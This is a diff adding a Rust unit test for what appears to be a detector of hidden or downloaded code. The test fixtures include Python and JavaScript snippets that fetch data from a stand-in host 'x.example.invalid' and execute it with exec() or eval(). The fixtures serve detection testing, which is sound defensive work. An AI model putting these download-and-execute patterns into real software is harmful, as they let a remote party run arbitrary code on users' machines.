@@ -219,3 +219,14 @@ fn one_chr_and_eval_namespaces_are_not_hidden_code() {
     let literal = py("import os\nos.system(chr(105) + chr(100))\n");
     assert_eq!(literal.len(), 1, "{literal:?}");
 }
+
+#[test]
+fn a_socket_is_not_downloaded_data_but_what_it_receives_is() {
+    // fastmcp's test harness: a port number from a bound socket names the server to start.
+    let port = py("import socket, subprocess\nwith socket.socket() as sock:\n    sock.bind(('127.0.0.1', 0))\n    port = sock.getsockname()[1]\nsubprocess.Popen(['python', 'server.py', str(port)])\n");
+    assert!(port.is_empty(), "{port:?}");
+    let received = py("import socket\ns = socket.create_connection(('x.example.invalid', 4444))\ncode = s.recv(4096)\nexec(code)\n");
+    assert_eq!(received.len(), 1, "{received:?}");
+    let js_response = js("const https = require('https');\nconst req = https.request({ host: 'x.example.invalid' });\nreq.on('response', (res) => { let b = ''; res.on('data', (d) => { b += d; }); res.on('end', () => eval(b)); });\nreq.end();\n");
+    assert_eq!(js_response.len(), 1, "{js_response:?}");
+}
